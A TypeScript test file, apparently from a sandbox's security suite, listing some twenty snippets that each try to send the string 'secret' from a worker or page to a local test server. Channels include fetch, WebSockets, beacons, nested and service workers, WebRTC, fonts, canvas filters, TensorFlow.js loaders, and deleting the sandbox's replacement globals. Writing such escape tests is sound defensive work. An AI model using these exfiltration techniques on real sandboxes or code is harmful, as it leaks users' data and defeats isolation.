import type { Attack } from "../attack.ts";

/** Every way by which a worker could reach a server. What it carries is in the address. */
export const networkAttacks: readonly Attack[] = [
  {
    name: "fetch",
    control: "worker",
    code: `
      for (const options of [{}, { method: "POST", body: "secret" }, { mode: "no-cors" }, { keepalive: true }]) {
        await fetch(http + "/fetch?data=secret", options).catch(() => undefined);
      }`,
  },
  {
    name: "XMLHttpRequest",
    control: "worker",
    code: `
      for (const isAsync of [false, true]) {
        const request = new XMLHttpRequest();
        request.open("GET", http + "/xhr?data=secret", isAsync);
        try { request.send(); } catch {}
      }
      await new Promise((resolve) => setTimeout(resolve, 300));`,
  },
  {
    name: "WebSocket",
    control: "worker",
    code: `
      const socket = new WebSocket(webSocket + "/socket?data=secret");
      await new Promise((resolve) => { socket.onopen = socket.onerror = resolve; });`,
  },
  {
    name: "WebSocketStream",
    control: "worker",
    code: `
      const Stream = globalThis.WebSocketStream ?? WebSocket;
      const socket = new Stream(webSocket + "/stream?data=secret");
      await Promise.race([socket.opened?.catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 500))]);`,
  },
  {
    name: "EventSource",
    control: "worker",
    code: `
      const source = new EventSource(http + "/source.events?data=secret");
      await new Promise((resolve) => { source.onopen = source.onerror = resolve; });
      source.close();`,
  },
  {
    name: "sendBeacon",
    control: "page",
    code: `
      navigator.sendBeacon(http + "/beacon?data=secret", "secret");
      await new Promise((resolve) => setTimeout(resolve, 300));`,
  },
  {
    name: "fetchLater",
    control: "page",
    code: `
      const later = globalThis.fetchLater ?? ((address) => fetch(address, { keepalive: true }));
      later(http + "/later?data=secret", { activateAfter: 0 });
      await new Promise((resolve) => setTimeout(resolve, 500));`,
  },
  { name: "importScripts", control: "worker", code: `importScripts(http + "/scripts.js?data=secret");` },
  {
    name: "import of an address",
    control: "worker",
    code: `
      const load = new Function("address", "return import(address)");
      await load(http + "/module.js?data=secret").catch(() => undefined);
      await (0, eval)("import('" + http + "/module.js?data=other')").catch(() => undefined);`,
  },
  {
    name: "import of data and blobs that import",
    control: "worker",
    code: `
      const load = new Function("address", "return import(address)");
      const text = "import " + JSON.stringify(http + "/inner.js?data=secret") + "; fetch(" + JSON.stringify(http + "/inner") + ")";
      await load("data:text/javascript," + encodeURIComponent(text)).catch(() => undefined);
      await load(URL.createObjectURL(new Blob([text], { type: "text/javascript" }))).catch(() => undefined);`,
  },
  {
    name: "a worker in the worker",
    control: "worker",
    code: `
      const text = "fetch(" + JSON.stringify(http + "/nested?data=secret") + "); importScripts(" + JSON.stringify(http + "/nested.js") + ")";
      const addresses = [
        "data:text/javascript," + encodeURIComponent(text),
        URL.createObjectURL(new Blob([text], { type: "text/javascript" })),
        http + "/worker.js?data=secret",
      ];
      for (const address of addresses) {
        for (const type of ["classic", "module"]) {
          try { new Worker(address, { type }).onerror = (event) => event.preventDefault(); } catch {}
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 800));`,
  },
  {
    name: "a shared worker",
    control: "page",
    code: `
      const text = "fetch(" + JSON.stringify(http + "/shared?data=secret") + ")";
      for (const address of ["data:text/javascript," + encodeURIComponent(text), URL.createObjectURL(new Blob([text]))]) {
        try { new SharedWorker(address); } catch {}
      }
      await new Promise((resolve) => setTimeout(resolve, 800));`,
  },
  {
    name: "a service worker",
    control: "page",
    code: `
      const container = navigator.serviceWorker;
      await container.register(http + "/service.js?data=secret").catch(() => undefined);`,
  },
  {
    name: "WebTransport",
    control: "page",
    sendsDatagrams: true,
    code: `
      const transport = new WebTransport("https://127.0.0.1:" + udpPort + "/?data=secret");
      transport.closed.catch(() => undefined);
      await Promise.race([transport.ready.catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 800))]);`,
  },
  {
    name: "WebRTC",
    control: "page",
    sendsDatagrams: true,
    code: `
      const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + udpPort }] });
      connection.createDataChannel("leak");
      await connection.setLocalDescription(await connection.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 800));`,
  },
  {
    name: "WebAssembly streaming",
    control: "worker",
    code: `
      for (const load of ["instantiateStreaming", "compileStreaming"]) {
        await WebAssembly[load](fetch(http + "/module.wasm?data=secret")).catch(() => undefined);
      }`,
  },
  {
    name: "a font",
    control: "worker",
    code: `
      const face = new FontFace("leak", "url(" + http + "/font.woff2?data=secret)");
      globalThis.fonts?.add(face);
      await face.load().catch(() => undefined);
      const canvas = new OffscreenCanvas(10, 10);
      const context = canvas.getContext("2d");
      context.font = "12px leak";
      context.fillText("a", 0, 10);`,
  },
  {
    name: "pictures and canvas filters",
    control: "page",
    code: `
      const canvas = new OffscreenCanvas(10, 10);
      const context = canvas.getContext("2d");
      context.filter = "url(" + http + "/filter.svg?data=secret#f)";
      context.fillRect(0, 0, 10, 10);
      const svg = '<svg xmlns="http://www.w3.org/2000/svg"><image href="' + http + '/inner.svg?data=secret"/></svg>';
      await createImageBitmap(new Blob([svg], { type: "image/svg+xml" })).catch(() => undefined);
      const image = new Image();
      image.src = http + "/picture.svg?data=secret";
      await new Promise((resolve) => { image.onload = image.onerror = resolve; });`,
  },
  {
    name: "the caches as fetchers",
    control: "worker",
    code: `
      const cache = await caches.open("leak");
      await cache.add(http + "/cache?data=secret").catch(() => undefined);
      await cache.addAll([new Request(http + "/cache?data=other")]).catch(() => undefined);`,
  },
  {
    name: "TensorFlow.js as a fetcher",
    control: "worker",
    code: `
      const load = globalThis.importScripts;
      if (typeof tf === "undefined") try { load(http + "/free/tf.js"); } catch {}
      const library = typeof tf === "undefined" ? (await import("@tensorflow/tfjs")) : tf;
      await library.util.fetch(http + "/util?data=secret").catch(() => undefined);
      await library.env().platform.fetch(http + "/platform?data=secret").catch(() => undefined);
      await library.loadLayersModel(http + "/model.json?data=secret").catch(() => undefined);
      await library.data.csv(http + "/table.csv?data=secret").columnNames().catch(() => undefined);
      await library.sequential({ layers: [library.layers.dense({ units: 1, inputShape: [1] })] })
        .save(library.io.http(http + "/save?data=secret")).catch(() => undefined);`,
  },
  {
    name: "what was taken away, by deleting what stands in its place",
    control: "worker",
    code: `
      for (const name of ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Request"]) {
        const before = globalThis[name];
        if (!String(before).includes("[native code]")) delete globalThis[name];
      }
      await globalThis.fetch(http + "/again?data=secret").catch(() => undefined);`,
  },
  {
    name: "a task that is left behind when the cell is done",
    control: "worker",
    code: `
      // What a task throws would end the run.
      const send = (path) => { try { fetch(http + path); } catch { /* refused */ } };
      setTimeout(() => send("/later?data=secret"), 100);
      setTimeout("try { fetch('" + http + "/text?data=secret'); } catch {}", 100);
      queueMicrotask(() => send("/microtask?data=secret"));
      await new Promise((resolve) => setTimeout(resolve, 400));`,
  },
];
